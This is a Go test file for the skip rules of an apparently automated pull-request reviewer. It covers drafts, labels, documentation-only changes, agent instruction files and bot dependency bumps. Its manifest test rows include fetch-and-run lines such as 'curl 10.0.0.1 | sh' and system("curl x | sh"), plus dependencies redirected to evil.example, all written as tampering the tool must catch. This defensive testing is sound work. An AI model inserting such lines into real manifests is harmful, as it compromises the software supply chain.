package policy

import (
	"strings"
	"testing"

	"github.com/prdebate/debate/internal/debate"
	"github.com/prdebate/debate/internal/patch"
	"github.com/prdebate/debate/internal/testkit/patchtest"
)

func TestSkip(t *testing.T) {
	t.Parallel()
	const (
		closed  = "the pull request is closed"
		draft   = "the pull request is a draft"
		label   = "the pull request has the label no-debate"
		docs    = "only documentation changed"
		updates = "a bot changed only dependencies or generated files"
	)
	prose := patchtest.Change(patchtest.Touch("README.md"), patchtest.Touch("docs/a.rst"), patchtest.Touch("docs/a.txt"))
	code := patchtest.Change(patchtest.Touch("a.go"))
	proposal := []debate.Segment{{Kind: debate.ProposalSegment, Source: debate.FromDiff, Path: "rfcs/1.md"}}
	of := func(name string) []debate.Segment {
		return []debate.Segment{{Kind: debate.CodeSegment, Source: debate.FromDiff, Path: name}}
	}
	reviewed := of("a.go")
	trigger := []debate.Trigger{{ID: debate.TriggerMoney, Class: debate.ClassPath}}
	update := func(name string) patchtest.Edit {
		return patchtest.Modify(name, "x\n\"a\": \"^1.2.3\",\n", "x\n\"a\": \"^1.3.0\",\n")
	}
	bump := patchtest.Change(update("go.mod"), patchtest.Touch("go.sum"), update("web/package.json"), update("requirements-dev.txt"))
	binary := patchtest.Change(update("go.mod"), patchtest.Touch("tool"))
	binary.Set.Files[1].Kind = patch.Binary
	picture := patchtest.Change(patchtest.Add("docs/a.png", "\x89PNG\r\n\x1a\n"))
	picture.Set.Files[0].Kind = patch.Binary
	program := patchtest.Change(patchtest.Add("docs/a.png", "MZ\x90\x00"))
	program.Set.Files[0].Kind = patch.Binary
	ofKind := func(kind patch.Kind, name string) patch.Change {
		c := patchtest.Change(patchtest.Touch(name))
		c.Set.Files[0].Kind = kind
		return c
	}
	unreadable := patchtest.Change(patchtest.Touch("README.md"))
	unreadable.Set.Files[0].Unparsed = "hunk is cut off"
	unread := patchtest.Change(patchtest.Touch("gen.go"))
	unread.Set.Files[0].Unparsed = "hunk is cut off"

	tests := []struct {
		name     string
		pr       PullRequest
		change   patch.Change
		segments []debate.Segment
		triggers []debate.Trigger
		want     string
	}{
		{"closed", PullRequest{Closed: true, Asked: true, Required: true}, code, reviewed, trigger, closed},
		{"draft", PullRequest{Draft: true}, code, reviewed, trigger, draft},
		{"draft under required", PullRequest{Draft: true, Required: true}, code, reviewed, nil, draft},
		{"draft, asked", PullRequest{Draft: true, Asked: true}, code, reviewed, nil, ""},
		{"label", PullRequest{Labels: []string{"bug", "No-Debate"}}, code, reviewed, trigger, label},
		{"label under required", PullRequest{Labels: []string{"no-debate"}, Required: true}, code, reviewed, nil, ""},
		{"label, asked", PullRequest{Labels: []string{"no-debate"}, Asked: true}, code, reviewed, nil, ""},
		{"another label", PullRequest{Labels: []string{"no-debate-please"}}, code, reviewed, nil, ""},

		{"documentation", PullRequest{}, prose, nil, nil, docs},
		{"documentation with fenced code", PullRequest{}, prose, []debate.Segment{{Kind: debate.CodeSegment, Path: "README.md"}}, nil, docs},
		{"documentation by its name", PullRequest{}, patchtest.Change(patchtest.Touch("README"), patchtest.Touch("lib/Changelog.txt")), nil, nil, docs},
		{"documentation with a trigger", PullRequest{}, prose, nil, trigger, ""},
		{"documentation with a proposal", PullRequest{}, prose, proposal, nil, ""},
		{"documentation under required", PullRequest{Required: true}, prose, nil, nil, ""},
		{"documentation, asked", PullRequest{Asked: true}, prose, nil, nil, ""},
		{"documentation and code", PullRequest{}, patchtest.Change(patchtest.Touch("README.md"), patchtest.Touch("a.go")), reviewed, nil, ""},
		{"code renamed to documentation", PullRequest{}, patchtest.Change(patchtest.Move("a.go", "a.md", "a\n", "a\n")), nil, nil, ""},
		{"instructions for agents", PullRequest{}, patchtest.Change(patchtest.Touch("AGENTS.md")), nil, nil, ""},
		{"commands for agents", PullRequest{}, patchtest.Change(patchtest.Touch(".claude/commands/x.md")), nil, nil, ""},
		{"a page with code", PullRequest{}, patchtest.Change(patchtest.Touch("docs/a.mdx")), nil, nil, ""},
		{"text that machines read", PullRequest{}, patchtest.Change(patchtest.Touch("requirements.txt")), nil, nil, ""},
		{"requirements below docs", PullRequest{}, patchtest.Change(patchtest.Touch("docs/requirements.txt")), nil, nil, ""},
		{"build file below docs", PullRequest{}, patchtest.Change(patchtest.Touch("docs/CMakeLists.txt")), nil, nil, ""},
		{"picture", PullRequest{}, picture, nil, nil, docs},
		{"program called as a picture", PullRequest{}, program, nil, nil, ""},
		{"submodule called as a page", PullRequest{}, ofKind(patch.Submodule, "docs/a.md"), nil, nil, ""},
		{"link called as a page", PullRequest{}, ofKind(patch.Symlink, "docs/a.md"), nil, nil, ""},
		{"program called as a page", PullRequest{}, ofKind(patch.Binary, "docs/a.md"), nil, nil, ""},
		{"page that cannot be read", PullRequest{}, unreadable, nil, nil, ""},

		{"bot", PullRequest{Bot: true}, bump, nil, nil, updates},
		{"bot with segments in manifests", PullRequest{Bot: true}, bump, of("go.mod"), nil, updates},
		{"bot with what it says of a lock file", PullRequest{Bot: true}, bump, []debate.Segment{{Kind: debate.CodeSegment, Source: debate.FromBody, Path: "go.sum"}}, nil, updates},
		{"bot and a lock file that is reviewed", PullRequest{Bot: true}, bump, of("go.sum"), nil, ""},
		{"bot and a new manifest", PullRequest{Bot: true}, patchtest.Change(patchtest.Add("go.mod", "module a\n")), nil, nil, ""},
		{"bot and a folder of requirements", PullRequest{Bot: true}, patchtest.Change(update("requirements/dev.txt")), of("requirements/dev.txt"), nil, updates},
		{"bot and code in a folder of requirements", PullRequest{Bot: true}, patchtest.Change(patchtest.Touch("requirements/install.py")), of("requirements/install.py"), nil, ""},
		{"bot and another folder", PullRequest{Bot: true}, patchtest.Change(patchtest.Touch("notes/dev.txt")), of("notes/dev.txt"), nil, ""},
		{"bot with a trigger", PullRequest{Bot: true}, bump, nil, trigger, ""},
		{"bot under required", PullRequest{Bot: true, Required: true}, bump, nil, nil, ""},
		{"bot and code", PullRequest{Bot: true}, patchtest.Change(update("go.mod"), patchtest.Touch("a.go")), reviewed, nil, ""},
		{"bot and a binary", PullRequest{Bot: true}, binary, nil, nil, ""},
		{"bot and what cannot be read", PullRequest{Bot: true}, unread, nil, nil, ""},
		{"bot and code that becomes a manifest", PullRequest{Bot: true}, patchtest.Change(patchtest.Move("a.js", "package.json", "a\n", "a\n")), nil, nil, ""},
		{"bot and a link called as a manifest", PullRequest{Bot: true}, ofKind(patch.Symlink, "go.mod"), nil, nil, ""},
		{"bot and a rename", PullRequest{Bot: true}, patchtest.Change(patchtest.Move("a.go", "b.go", "a\n", "a\n")), nil, nil, ""},
		{"person", PullRequest{}, bump, nil, nil, ""},

		{"code", PullRequest{}, code, reviewed, nil, ""},
		{"nothing", PullRequest{Bot: true}, patchtest.Change(), nil, nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Skip(tt.pr, tt.change, tt.segments, nil, tt.triggers); got != tt.want {
				t.Errorf("Skip = %q, want %q", got, tt.want)
			}
		})
	}
}

// TestFindingForbidsToSkip: what already stands as a finding must be seen, but it
// overrides neither a person nor a label.
func TestFindingForbidsToSkip(t *testing.T) {
	t.Parallel()
	hits := []debate.Hit{{Rule: "merge/conflict-marker"}}
	prose, bump := patchtest.Change(patchtest.Touch("README.md")), patchtest.Change(patchtest.Touch("go.sum"))
	if got := Skip(PullRequest{}, prose, nil, hits, nil); got != "" {
		t.Errorf("documentation with a finding is skipped: %s", got)
	}
	if got := Skip(PullRequest{Bot: true}, bump, nil, hits, nil); got != "" {
		t.Errorf("an update with a finding is skipped: %s", got)
	}
	if got := Skip(PullRequest{Draft: true}, prose, nil, hits, nil); got == "" {
		t.Error("a draft is reviewed because of a finding")
	}
}

// TestNotDocumentation: a file that runs, or that a program obeys, is read by more than
// people.
func TestNotDocumentation(t *testing.T) {
	t.Parallel()
	skipped := func(change patch.Change) bool { return Skip(PullRequest{}, change, nil, nil, nil) != "" }
	for _, name := range strings.Fields(`QWEN.md WARP.md CONVENTIONS.md Skill.md CLAUDE.local.md replit.md docs/AGENTS.md rules.md
		.kiro/steering/a.md .roo/rules/a.md .junie/guidelines.md .amazonq/rules/a.md .openhands/microagents/repo.md .ruler/a.md .rules/a.md
		.hidden/a.md app/.new-agent/rules.txt .github/agents/a.md .github/chatmodes/a.chatmode.md .github/instructions/a.md .github/workflows/a.md
		a.instructions.md a.prompt.md a.chatmode.md a.agent.md docs/a.mdc prompts/system.md plugin/skills/pdf/forms.md commands/deploy.md
		memory-bank/projectContext.md PROMPT.md agent/system_prompt.md SOUL.md testdata/golden.md tests/fixtures/page.md app/__snapshots__/a.md templates/mail.md emails/welcome.md app/views/mailer/welcome.md
		src/prompts.md GPT.md ai/instructions.md memory/constitution.md MEMORY.md CODY.md HEARTBEAT.md
		build.coffee.md bin/news scripts/history hooks/changes docs/robots.txt .changes.md CLAUDE-local.md AI_RULES.md ai-rules.md my-prompt.md system-instructions.md project-context.md context.md
		CLINE.md GOOSE.md DEVIN.md AMP.md microagents/repo.md subagents/a.md skill/pdf/forms.md git-hooks/news plugins/history app/commands/news utils/notice rc.d/news docs/dev-requirements.txt debian/changelog debian/NEWS`) {
		if skipped(patchtest.Change(patchtest.Touch(name))) {
			t.Errorf("%s is documentation", name)
		}
		if skipped(patchtest.Change(patchtest.Move(name, "docs/a.md", "a\n", "a\n"))) {
			t.Errorf("%s is moved away as documentation", name)
		}
	}
	for _, name := range strings.Fields(`README docs/commands/deploy.md docs/agents/a.md .github/CONTRIBUTING.md .github/ISSUE_TEMPLATE/bug.md
		.github/PULL_REQUEST_TEMPLATE.md docs/build-instructions.md docs/ai-policy.md domain.md email.md .gitlab/merge_request_templates/a.md scripts/README.md lib/NEWS docs/a.txt`) {
		if !skipped(patchtest.Change(patchtest.Touch(name))) {
			t.Errorf("%s is no documentation", name)
		}
	}
	modes := func(name string, before, after uint32) patch.Change {
		c := patchtest.Change(patchtest.Touch(name))
		c.Set.Files[0].OldMode, c.Set.Files[0].NewMode = before, after
		return c
	}
	script := patchtest.Modify("news", "#!/bin/sh\n"+strings.Repeat("\n", 9)+"a\n", "#!/bin/sh\n"+strings.Repeat("\n", 9)+"b\n")
	alone := patchtest.Change(patchtest.Modify("news", "a\n", "#!/bin/sh\na\n"))
	for name, change := range map[string]patch.Change{
		"executable":        modes("news", 0o100755, 0o100755),
		"executable page":   modes("docs/a.md", 0o100755, 0o100755),
		"made executable":   modes("news", 0o100644, 0o100755),
		"no longer":         modes("news", 0o100755, 0o100644),
		"script":            patchtest.Change(script),
		"script of a patch": patch.Alone(alone.Set),
		"becomes a script":  alone,
		"script that goes":  patchtest.Change(patchtest.Remove("news", "#!/bin/sh\na\n")),
		"script that moves": patchtest.Change(patchtest.Move("news", "history", "#!/bin/sh\na\n", "#!/bin/sh\na\n")),
	} {
		if skipped(change) {
			t.Errorf("%s: it is documentation", name)
		}
	}
	if !skipped(modes("news", 0o100644, 0o100644)) {
		t.Error("a page of the mode 644 is none")
	}
}

// TestObeyedNames: a name of the table that is not in lower case would never be found.
func TestObeyedNames(t *testing.T) {
	t.Parallel()
	for _, table := range []map[string]bool{obeyedDirectories, obeyedStems, obeyedFiles} {
		for name := range table {
			if name != strings.ToLower(name) {
				t.Errorf("%s is never found", name)
			}
		}
	}
}

// TestOnlyVersions: of what a bot updates, manifests are read unless nothing but versions
// changed, and lock files if they fetch from a new place.
func TestOnlyVersions(t *testing.T) {
	t.Parallel()
	const lock = "resolved \"https://packages.example/a/-/a-1.0.0.tgz\"\nfrom git+ssh://git@github.com/acme/b.git\n"
	for _, row := range []struct {
		name, before, after string
		want                bool
	}{
		{"package.json", `"a": "^1.2.3",`, `"a": "^1.2.4",`, true},
		{"package.json", `"a": "1.2.3",`, `"a": "2.0.0-rc.1+build.5",`, true},
		{"go.mod", "require a.example/b v1.2.3 // indirect", "require a.example/b v1.3.0 // indirect", true},
		{"go.mod", "\ta.example/b v0.0.0-20260101000000-abcdefabcdef", "\ta.example/b v0.0.0-20260201000000-0123456789ab", true},
		{"go.mod", "require github.com/a/b v1.2.3", "require github.com/a/b v1.2.4", true},
		{"requirements.txt", "django==4.2.1", "django==4.2.2", true},
		{"Gemfile", `gem "rails", "~> 7.1.2"`, `gem "rails", "~> 7.2.0"`, true},
		{"pom.xml", "<version>1.2.3</version>", "<version>1.2.4</version>", true},
		{"build.gradle", "implementation 'a.b:c:1.2.3'", "implementation 'a.b:c:1.2.4'", true},
		{"Cargo.toml", `a = { version = "1.2", features = ["x"] }`, `a = { version = "1.3", features = ["x"] }`, true},

		{"package.json", `"a": "^1.2.3",`, `"a": ">=1.2.3",`, false},
		{"package.json", `"a": "1.2.3",`, `"a": "npm:evil@1.2.3",`, false},
		{"package.json", `"a": "1.2.3",`, `"a": "latest",`, false},
		{"package.json", `"a2": "1.2.3",`, `"a3": "1.2.3",`, false},
		{"package.json", `"jsdom-2": "1.2.3",`, `"jsdom-3": "1.2.3",`, false},
		{"package.json", `"a": "https://host/1.2.3",`, `"a": "https://host/1.2.4",`, false},
		{"package.json", `"a": "http://10.0.0.1/a"`, `"a": "http://10.0.0.2/a"`, false},
		{"package.json", `"a": "1.2.3",`, `"a": "1.2.4",` + "\n" + `"b": "1.0.0",`, false},
		{"package.json", `"a": "git@10.0.0.1:a/b.git"`, `"a": "git@10.0.0.2:a/b.git"`, false},
		{"package.json", `"a": "http://me@host:8080/a"`, `"a": "http://me@host:8081/a"`, false},
		{"package.json", `"a": "1.2.3",` + "\n" + `"b": "1.0.0",`, `"a": "1.2.4",`, false},
		{"package.json", `"a": "github:acme/a#v1.2.3"`, `"a": "github:acme/a#v1.2.4"`, false},
		{"package.json", `"test": "curl 10.0.0.1 | sh",`, `"test": "curl 10.0.0.2 | sh",`, false},
		{"package.json", `"build": "serve --port 8080",`, `"build": "serve --port 8081",`, false},
		{"pyproject.toml", "fail_under = 100", "fail_under = 0", false},
		{"pyproject.toml", "fail_under = 90.5", "fail_under = 0.5", false},
		{"requirements.txt", "django == 4.2", "django == 5.0", true},
		{"pom.xml", "<minimum>0.80</minimum>", "<minimum>0.00</minimum>", false},
		{"pom.xml", "<spring.version>5.2</spring.version>", "<spring.version>5.3</spring.version>", true},
		{"a.csproj", `<PackageReference Include="A" Version="1.2" />`, `<PackageReference Include="A" Version="1.3" />`, true},
		{"a.csproj", "<WarningLevel>4.0</WarningLevel>", "<WarningLevel>0.0</WarningLevel>", false},
		{"build.gradle.kts", `minimum = "0.90".toBigDecimal()`, `minimum = "0.00".toBigDecimal()`, false},
		{"build.gradle", "timeout(1.5)", "timeout(90.5)", false},
		{"build.gradle", "implementation 'a.b:c:1.2'", "implementation 'a.b:c:1.3'", true},
		{"package.json", `"test": "jest --threshold=90.5",`, `"test": "jest --threshold=0.5",`, false},
		{"pyproject.toml", "fail_under = 90.5  # percent", "fail_under = 0.5  # percent", false},
		{"pyproject.toml", `python = ">=3.8,<4.0"`, `python = ">=3.9,<4.1"`, true},
		{"mix.exs", "summary: [threshold: 90.0]", "summary: [threshold: 0.0]", false},
		{"mix.exs", `{:a, "~> 1.2"},`, `{:a, "~> 1.3"},`, true},
		{"go.mod", "go 1.21", "go 1.22", true},
		{".pre-commit-config.yaml", "rev: v1.2", "rev: v1.3", true},
		{"dev-requirements.txt", "a==1.2.3", "a==1.2.4", true},
		{"test-requirements.txt", "a==1.2.3", "b==1.2.3", false},
		{"pom.xml", "<threshold>100</threshold>", "<threshold>0</threshold>", false},
		{"Gemfile", `gem "rails", "7.1.2"`, `gem "rails", "7.1.3"; system("curl x | sh")`, false},
		{"Gemfile", "x", "x\n" + `system("curl x | sh")`, false},
		{"build.gradle", "x", `"curl x".execute()`, false},
		{"go.mod", "require a.example/b v1.2.3", "require a.example/b v1.2.3\nreplace a.example/b => evil.example/b v1.2.3", false},

		{"package-lock.json", lock, strings.Replace(lock, "1.0.0", "1.0.1", 1), true},
		{"package-lock.json", lock, strings.Replace(lock, "packages.example", "evil.example", 1), false},
		{"package-lock.json", lock, strings.Replace(lock, "packages.example", "me@evil.example:8080", 1), false},
		{"package-lock.json", lock, strings.Replace(lock, "acme/b", "evil/b", 1), false},
		{"package-lock.json", lock, strings.Replace(lock, "https://", "http://", 1), false},
		{"package-lock.json", lock, lock + "from git@github.com:evil/b.git\n", false},
		{"package-lock.json", lock, lock + "from git@github.com:acme/c.git\n", true},
		{"pnpm-lock.yaml", lock, lock + "  c: github:evil/c\n", false},
		{"pnpm-lock.yaml", lock, lock + "  github.com/evil/c/0123456:\n", false},
	} {
		change := patchtest.Change(patchtest.Modify(row.name, "first\n"+row.before+"\nlast\n", "first\n"+row.after+"\nlast\n"))
		if got := Skip(PullRequest{Bot: true}, change, nil, nil, nil) != ""; got != row.want {
			t.Errorf("%s: %q after %q: skipped %t", row.name, row.after, row.before, got)
		}
	}
	executable := patchtest.Change(patchtest.Modify("go.mod", "a v1.0.0\n", "a v1.0.1\n"))
	executable.Set.Files[0].OldMode, executable.Set.Files[0].NewMode = 0o100644, 0o100755
	if Skip(PullRequest{Bot: true}, executable, nil, nil, nil) != "" {
		t.Error("a manifest that becomes executable is skipped")
	}
}
